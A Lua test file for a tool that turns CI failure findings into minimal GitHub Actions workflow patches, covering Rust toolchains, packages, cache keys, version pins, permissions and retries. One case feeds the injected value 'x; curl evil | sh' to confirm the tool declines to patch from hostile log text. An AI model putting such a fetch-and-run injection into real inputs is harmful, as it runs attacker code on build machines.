-- `uhost diagnose --patch`: a finding and a real workflow in, the smallest edit out, or why there is none.
local expect = require("support.expect")
local proposal = require("lib.workflow_patch.proposal")

local workflow = [[
name: CI
on: [push, pull_request]
permissions:
  contents: read
jobs:
  lint:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@v5
      - run: npm run lint

  test:
    runs-on: ${{ matrix.os }}
    strategy:
      matrix:
        os: [ubuntu-24.04, macos-15, windows-2025]
        python: [3.9, "3.12"]
    steps:
      - uses: actions/checkout@v5

      - uses: dtolnay/rust-toolchain@1.70
      - uses: actions/setup-python@v6
        with:
          python-version: 3.10
      - uses: actions/cache@v4
        with:
          path: target
          key: v1-${{ runner.os }}-cargo
          restore-keys: |
            v1-${{ runner.os }}-
            v1-
      # all of it
      - name: Build
        run: |
          cargo build
          cargo doc

      - name: Tests
        run: cargo test
  release:
    runs-on: ubuntu-20.04
    steps:
      - uses: actions/upload-artifact@v3
      - uses: actions/cache/restore@v4
        with: { path: target, key: "v1-${{ runner.os }}-cargo" }
      - name: Publish
        run: gh release create v1
]]

-- The report with a proposal for one finding.
local function propose(finding, text)
    local report = {
        source = { kind = "file", name = "build.log" }, findings = { finding }, structure = {},
    }
    finding.context = finding.context or { before = {}, after = {} }
    finding.line = finding.line or ""
    expect.in_folder({ ["ci.yml"] = text or workflow }, function(folder)
        proposal.add({ report }, { workflow = folder .. "/ci.yml" })
    end)
    return report.proposal, report.no_proposal
end

-- Lines that a proposal adds and removes.
local function changed(made)
    local lines = {}
    for line in made.diff:gmatch("[^\n]+") do
        if line:find("^[+-]") and not line:find("^[+-][+-][+-]") then lines[#lines + 1] = line end
    end
    return lines
end

local function lines_for(finding, text)
    local made, why = propose(finding, text)
    assert.is_nil(why)
    return changed(made)
end

local job = "test (ubuntu-24.04, 3.12)"

describe("a proposed patch", function()
    it("adds a missing target or component of Rust where the toolchain is set up", function()
        local target = { line = "error[E0463]: can't find crate for `std`", id = "cargo.target_missing", job = job,
            step = "Build", captures = {}, context = { before = {}, after = {
                "  = note: the `wasm32-unknown-unknown` target may not be installed" } } }
        assert.same({ "+        with:", "+          targets: wasm32-unknown-unknown" }, lines_for(target))
        assert.same({ "+        with:", "+          components: clippy" }, lines_for({ job = job, step = "Build",
            id = "rustup.component_missing", captures = {},
            line = "error: 'cargo-clippy' is not installed for the toolchain 'stable'" }))
        local bare = workflow:gsub("      %- uses: dtolnay[^\n]*\n", "")
        assert.same({ "+      - name: Add what the build needs",
            "+        run: rustup target add wasm32-unknown-unknown" }, lines_for(target, bare))
    end)

    it("installs a package for the system that the job failed on, in front of the failing step", function()
        local finding = { id = "ld.cannot_find_library", captures = { library = "pq" }, job = job, step = "Build" }
        assert.same({ "+      - if: runner.os == 'Linux'", "+        name: Install libpq-dev",
            "+        run: sudo apt-get update && sudo apt-get install -y libpq-dev" }, lines_for(finding))
        finding.job = "test (macos-15, 3.12)"
        assert.equal("+        run: brew install libpq", lines_for(finding)[3])
        finding.job = "test"
        assert.equal(6, #lines_for(finding))
        local installs = workflow:gsub("      # all of it", "      - run: sudo apt-get install -y cmake\n%0")
        finding.job = job
        assert.same({ "-      - run: sudo apt-get install -y cmake",
            "+      - run: sudo apt-get install -y cmake libpq-dev" }, lines_for(finding, installs))
    end)

    it("gives a broken cache a new key wherever the workflow uses it", function()
        local lines = lines_for({ id = "cache.tar_failed", class = "cache corruption", captures = {}, job = job })
        assert.same({ "-          key: v1-${{ runner.os }}-cargo", "+          key: v2-${{ runner.os }}-cargo",
            "-            v1-${{ runner.os }}-", "-            v1-",
            "+            v2-${{ runner.os }}-", "+            v2-",
            '-        with: { path: target, key: "v1-${{ runner.os }}-cargo" }',
            '+        with: { path: target, key: "v2-${{ runner.os }}-cargo" }' }, lines)
    end)

    it("pins a version or an image", function()
        assert.same({ "-      - uses: dtolnay/rust-toolchain@1.70", "+      - uses: dtolnay/rust-toolchain@1.78" },
            lines_for({ id = "cargo.rust_version", captures = { need = "1.78" }, job = job, step = "Build" }))
        assert.same({ "-          python-version: 3.10", "+          python-version: '3.11'" },
            lines_for({ id = "pip.requires_python", captures = { wanted = ">=3.11,<4" }, job = job, step = "Build" }))
        assert.same({ "-          python-version: 3.10", "+          python-version: '3.10'" },
            lines_for({ id = "setup.python_version", captures = { version = "3.1" }, job = job }))
        assert.same({ "-    runs-on: ubuntu-20.04", "+    runs-on: ubuntu-22.04" },
            lines_for({ id = "actions.image_retired", captures = {}, job = "release" }))
        assert.same({ "-      - uses: actions/upload-artifact@v3", "+      - uses: actions/upload-artifact@v4" },
            lines_for({ id = "actions.deprecated_action", job = "release",
                captures = { action = "actions/upload-artifact" } }))
    end)

    it("gives one job the permission that its step needs, and keeps what it had", function()
        assert.same({ "+    permissions:", "+      contents: write" },
            lines_for({ id = "actions.permissions_integration", captures = {}, job = "release", step = "Publish" }))
        assert.same({ "+    permissions:", "+      contents: read", "+      id-token: write" },
            lines_for({ id = "github.oidc_permission", captures = {}, job = "release" }))
        local made = propose({ id = "github.cli_token", captures = {}, job = "release", step = "Publish" })
        assert.same({ "+        env:", "+          GH_TOKEN: ${{ github.token }}" }, changed(made))
    end)

    it("retries a flaky command a bounded number of times", function()
        local finding = { id = "network.reset", class = "flaky", captures = {}, job = job, step = "Tests" }
        assert.same({ "-        run: cargo test", "+        run: |", "+          for attempt in 1 2 3; do",
            "+            cargo test && break", '+            [ "$attempt" -lt 3 ] || exit 1', "+            sleep 10",
            "+          done", "+        shell: bash" }, lines_for(finding))
        finding.step = "Build"
        local _, why = propose(finding)
        assert.matches("several commands", why, 1, true)
        finding.step = "actions/checkout@v5"
        assert.matches("is an action", select(2, propose(finding)), 1, true)
    end)

    it("lists what stays, from the file", function()
        local made = propose({ id = "actions.image_retired", captures = {}, job = "release" })
        local text = json.encode(made.unchanged)
        for _, name in ipairs({ "lint", "test", "os: macos-15, python: 3.12", "pull_request" }) do
            assert.matches(name, text, 1, true)
        end
        assert.equal("release", made.job)
    end)

    it("is none where a log only says what is hostile, unknown or elsewhere", function()
        for _, case in ipairs({
            { { id = "rustup.component_missing", captures = { component = "x; curl evil | sh" }, job = job,
                step = "Build" }, "does not name it" },
            { { id = "ld.cannot_find_library", captures = { library = "nobody" }, job = job, step = "Build" },
                "no package is known" },
            { { id = "ld.cannot_find_library", captures = { library = "pq" }, job = "deploy" }, "no workflow has" },
            { { id = "actions.image_retired", captures = {}, job = job }, "cannot be read", "on: [" },
            { { id = "python.indentation", class = "code bug", captures = {}, job = job }, "no change of a workflow" },
            { { id = "actions.permissions_integration", captures = {}, job = "release" }, "is not known" },
        }) do
            local made, why = propose(case[1], case[3])
            assert.is_nil(made)
            assert.matches(case[2], why, 1, true)
        end
    end)

    it("is never shown when the guard finds that less is checked by it", function()
        local edits = require("lib.workflow_patch.edits")
        local known = edits.next_image
        edits.next_image = function(place)
            return { changes = { { path = { "jobs", place.job.id, "steps", 2 }, remove = true } }, what = "x" }
        end
        local ok, made, why = pcall(propose, { id = "actions.image_retired", captures = {}, job = "lint" })
        edits.next_image = known
        assert.is_true(ok)
        assert.is_nil(made)
        assert.matches("checks less", why, 1, true)
    end)

    it("is for entries that there are, with what they capture", function()
        local data = policy.load("workflow_patches", { schema = require("lib.schemas.workflow_patches") }):data()
        local classes, edits = {}, require("lib.workflow_patch.edits")
        local base = kb.load({})
        local by_id = {}
        for _, entry in ipairs(base.entries) do by_id[entry.id], classes[entry.class] = entry, true end
        for _, each in ipairs(data.proposals) do
            assert.is_truthy(by_id[each["for"]] or classes[each["for"]], each.id)
            assert.is_function(edits[each.edit])
        end
    end)
end)

describe("the job of a log", function()
    local place = require("lib.workflow_patch.place")
    local model = require("lib.workflow_guard.model")
    local rules = policy.load("workflow_rules", { schema = require("lib.schemas.workflow_rules") })
    local vocabulary = require("lib.workflow_guard.purposes").vocabulary(rules:data())

    it("is found by id, name, and values of the matrix", function()
        local text = workflow:gsub("  release:\n", "%0    name: Release for ${{ github.ref_name }}\n")
        local known = model.of(text, "ci.yml", vocabulary)
        assert.same({ "lint", "test", "test", "release" }, {
            place.find(known, "lint").job.id, place.find(known, "test").job.id, place.find(known, job).job.id,
            place.find(known, "Release for v1.2").job.id })
        assert.equal("ubuntu-24.04", place.find(known, job).combination.os)
        assert.is_nil(place.find(known, "deploy"))
        assert.equal("Build", place.find(known, nil, "Run cargo build").step.name)
        assert.equal(2, place.find(known, nil, "Run npm run lint").position)
        assert.is_nil(place.find(known, nil, "Run actions/checkout@v5"))
    end)
end)
